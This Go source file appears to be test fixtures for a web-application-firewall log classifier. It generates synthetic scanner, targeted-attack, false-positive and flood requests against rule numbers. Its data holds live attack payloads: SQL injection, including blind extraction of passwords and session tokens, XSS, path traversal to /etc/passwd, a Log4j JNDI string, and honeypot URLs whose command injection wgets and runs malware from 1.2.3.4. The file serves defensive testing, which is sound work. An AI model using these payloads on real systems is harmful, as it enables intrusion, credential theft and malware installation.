package waf

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
)

// A second set, written down before the judge was tried on it: a scanned shop, a
// honeypot, a WordPress site, and a company whose WAF logs little. byNumber is
// for rules that are a number of the Core Rule Set and nothing else, as in a rule
// group of one's own.

func byNumber(n int, q request) request {
	q.group, q.rule, q.action, q.ruleType = "", fmt.Sprint(n), "BLOCK", "REGULAR"
	if q.method == "" {
		q.method = "GET"
	}
	return q
}

// pages of a shop that CSIC's generated attacks and ordinary people go to.
var shopPages = []string{"/tienda1/publico/anadir.jsp", "/tienda1/publico/autenticar.jsp", "/tienda1/publico/caracteristicas.jsp", "/tienda1/publico/pagar.jsp", "/tienda1/publico/vaciar.jsp", "/tienda1/miembros/editar.jsp", "/tienda1/index.jsp"}

var shopAttacks = map[int][]string{
	942100: {"' OR 'a'='a", "1; DROP TABLE usuarios; SELECT * FROM datos WHERE nombre LIKE '%", "bob'; insert into usuarios values ('x')--", "a%' AND 1=(SELECT COUNT(*) FROM tablas)--", "' or ''='"},
	941100: {"<script>alert(\"Paros\");</script>", "<!--#exec cmd=\"rm -rf /;cat /etc/passwd\" -->", "Set-cookie: Tamper=5765205567234876235", "bob@<SCRipt>alert(Paros)</scrIPT>.parosproxy.org"},
	930120: {"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow%00.jpg"},
}

func shopAttack(r *rand.Rand, rules ...int) (int, string) {
	n := pick(r, rules...)
	return n, pick(r, shopAttacks[n]...)
}

var wordpressHoles = []string{"/wp-login.php", "/xmlrpc.php", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "/wp-json/wp/v2/users/", "/wp-content/uploads/2023/shell.php", "/?author=1", "/wp-includes/wlwmanifest.xml", "/readme.html", "/wp-config.php.bak", "/wp-content/debug.log"}

var honeypotAsks = []string{
	"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
	"/shell?cd+/tmp;rm+-rf+*;wget+1.2.3.4/jaws;sh+/tmp/jaws", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://1.2.3.4/x`)",
	"/manager/html", "/phpmyadmin/scripts/setup.php", "/HNAP1/", "/index.php?lang=../../../../../../../../tmp/index1", "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
	"/.env", "/solr/admin/info/system?wt=json", "/actuator/gateway/routes", "/login.rsp", "/boaform/admin/formLogin?username=admin&psd=admin", "/config/getuser?index=0", "/ab2g", "/t4", "/sdk", "/stalker_portal/c/", "/GponForm/diag_Form?images/", "/api/jsonws/invoke", "/?a=fetch&content=<php>die(@md5(HelloThinkCMF))</php>", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
}

func ask(uri string) (q request) {
	q.path, q.query, _ = strings.Cut(uri, "?")
	return q
}

var furtherAway = []elsewhere{
	{Scan, "ZAP all over a shop", func(r *rand.Rand, _ int) request {
		n, text := shopAttack(r, 942100, 941100, 930120)
		path := pick(r, append([]string{"/robots.txt", "/sitemap.xml", "/.git/HEAD", "/images/", "/tienda1/global/", "/.svn/wc.db", "/WEB-INF/web.xml"}, shopPages...)...)
		return byNumber(n, request{path: path, query: query(pick(r, "id", "nombre", "precio", "login"), text), agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/92.0 OWASP ZAP", address: "10.7.7.7"})
	}},
	{Scan, "w3af, one kind of attack", func(r *rand.Rand, i int) request {
		return byNumber(930120, request{path: fmt.Sprintf("/page%d.php", i%30), query: query("file", pick(r, shopAttacks[930120]...)), agent: "w3af.org", address: "172.16.5.5"})
	}},
	{Scan, "DirBuster", func(r *rand.Rand, i int) request {
		return byNumber(pick(r, 920440, 930130, 913100), request{path: "/" + pick(r, "admin", "backup", "old", "test", "dev", "tmp", "include", "db") + fmt.Sprint(i%90) + pick(r, "/", ".php", ".bak", ".sql"), agent: "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", address: "10.8.8.8"})
	}},
	{Scan, "what a honeypot hears", func(r *rand.Rand, _ int) request {
		q := ask(pick(r, honeypotAsks...))
		q.agent, q.address = pick(r, "", "Mozilla/5.0", "Hello, world", "curl/7.3.2", "Go-http-client/1.1", firefox, "python-requests/2.27.1"), address(r, 4000)
		return byNumber(pick(r, 932100, 930130, 930100, 933150, 920350), q)
	}},
	{Scan, "bots at a WordPress", func(r *rand.Rand, _ int) request {
		q := ask(pick(r, wordpressHoles...))
		q.agent, q.address = pick(r, ordinaryAgents...), address(r, 4000)
		return stoppedBy("AWS#AWSManagedRulesWordPressRuleSet", pick(r, "WordPressExploitablePaths_URIPATH", "WordPressExploitableCommands_QUERYSTRING"), q)
	}},
	{Scan, "Log4j in every header", func(r *rand.Rand, i int) request {
		q := request{path: pick(r, "/", "/login", "/api", "/search", fmt.Sprintf("/x%d", i)), agent: fmt.Sprintf("${jndi:ldap://%d.oast.fun/a}", i), address: fmt.Sprintf("45.1.%d.9", r.IntN(200))}
		return stoppedBy("AWS#AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER", q)
	}},

	{Targeted, "one form of the shop", func(r *rand.Rand, i int) request {
		n, text := shopAttack(r, 942100)
		return byNumber(n, request{path: shopPages[0], query: query("id", text+fmt.Sprint(i)), agent: "Mozilla/5.0 (compatible; Konqueror/3.5; Linux) KHTML/3.5.8 (like Gecko)", address: "192.0.2.77"})
	}},
	{Targeted, "two forms of the shop, by post", func(r *rand.Rand, _ int) request {
		n, _ := shopAttack(r, 942100, 941100)
		return byNumber(n, request{method: "POST", path: pick(r, shopPages[1], shopPages[5]), agent: firefox, address: fmt.Sprintf("192.0.2.%d", r.IntN(3))})
	}},
	{Targeted, "the same, from everywhere", func(r *rand.Rand, _ int) request {
		n, _ := shopAttack(r, 942100)
		q := person(r, "POST", shopPages[5], "")
		return byNumber(n, q)
	}},
	{Targeted, "a name of one's own for the rule", func(r *rand.Rand, i int) request {
		q := byNumber(0, person(r, "GET", "/v2/quotes", query("ref", fmt.Sprintf("0'XOR(if(now()=sysdate(),sleep(%d),0))XOR'Z", i))))
		q.rule, q.address = "corp-block-sqli-v3", "2001:db8:1::9"
		return q
	}},
	{Targeted, "one WordPress, one account", func(r *rand.Rand, _ int) request {
		return stoppedBy("AWS#AWSManagedRulesATPRuleSet", "AttributePasswordTraversal", request{method: "POST", path: "/wp-login.php", agent: firefox, address: address(r, 3)})
	}},
	{Targeted, "one in five among honeypot noise", func(r *rand.Rand, i int) request {
		if i%5 == 0 {
			return byNumber(942100, request{path: "/account/invoices", query: query("year", fmt.Sprintf("2024' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),%d,1))>%d--", i, r.IntN(128))), agent: firefox, address: "198.51.100.23", cookie: true})
		}
		q := ask(pick(r, honeypotAsks...))
		q.agent, q.address = pick(r, "", "Mozilla/5.0", "Hello, world", firefox), address(r, 4000)
		return byNumber(pick(r, 932100, 930130, 933150, 920350), q)
	}},
	{Targeted, "under the name of Nikto, behind Nikto", func(r *rand.Rand, i int) request {
		agent := "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"
		if i%4 == 0 {
			return byNumber(942100, request{path: "/account/invoices", query: query("year", fmt.Sprintf("2024' UNION SELECT %d,password FROM users--", i)), agent: agent, address: "198.51.100.23"})
		}
		return byNumber(930130, request{path: pick(r, hunted...), agent: agent, address: "198.51.100.23"})
	}},
	{Targeted, "ids of others, letter by letter", func(r *rand.Rand, i int) request {
		return byNumber(942190, person(r, "GET", "/api/me", "fields=id,"+url.QueryEscape(fmt.Sprintf("(case when (select substr(token,%d,1) from sessions)='%c' then 1 else 2 end)", i, 'a'+i%26))))
	}},
	{Targeted, "redirects of the log-in", func(r *rand.Rand, i int) request {
		q := person(r, "GET", "/oauth/authorize", query("redirect_uri", fmt.Sprintf("https://evil%d.example/%%0d%%0aSet-Cookie:s=1", i)))
		q.address = "203.0.113.80"
		return stoppedBy(coreRules, "GenericRFI_QUERYARGUMENTS", q)
	}},

	{FalsePositive, "names and notes", func(r *rand.Rand, _ int) request {
		text := pick(r, "O'Brien & Sons", "select from our best 2024 wines", "it's 5 > 4; isn't it?", "drop in any time", "ランチ; 2名 (窓側)", "union square hotel", "1=1 scale model", "C:\\ drive is full", "50% off -- today only", "Q&A: how to cat proof a sofa")
		return byNumber(pick(r, 942100, 942430, 932160), person(r, "GET", pick(r, "/search", "/notes", "/contacts"), query("q", text)))
	}},
	{FalsePositive, "names and notes, little logged", func(r *rand.Rand, _ int) request {
		text := pick(r, "O'Brien & Sons", "select from our best 2024 wines", "drop in any time", "union square hotel", "Q&A: how to cat proof a sofa", "D'Angelo's or Mario's")
		q := person(r, "GET", pick(r, "/search", "/notes", "/contacts"), query("q", text))
		q.cookie, q.browser = false, false
		return byNumber(942100, q)
	}},
	{FalsePositive, "analytics cookies", func(r *rand.Rand, _ int) request {
		return byNumber(pick(r, 942420, 942421), person(r, "GET", pick(r, "/", "/products", "/products/12", "/cart", "/help/shipping"), ""))
	}},
	{FalsePositive, "old browsers without a header", func(r *rand.Rand, _ int) request {
		q := person(r, "GET", pick(r, "/", "/news", "/news/2024/05", "/about"), "")
		q.cookie, q.browser = false, false
		return byNumber(pick(r, 920300, 920280), q)
	}},
	{FalsePositive, "a form with attachments", func(r *rand.Rand, _ int) request {
		return stoppedBy(coreRules, "SizeRestrictions_BODY", person(r, "POST", "/tickets/new", ""))
	}},

	{Flood, "one search from a botnet", func(r *rand.Rand, i int) request {
		return overLimit(request{path: "/search", query: fmt.Sprintf("q=%x", r.IntN(1<<30)), agent: pick(r, ordinaryAgents...), address: address(r, 900)})
	}},
	{Flood, "an app that retries", func(r *rand.Rand, _ int) request {
		return overLimit(request{path: "/api/v1/feed", agent: "okhttp/4.12.0", address: address(r, 200), cookie: true})
	}},
}
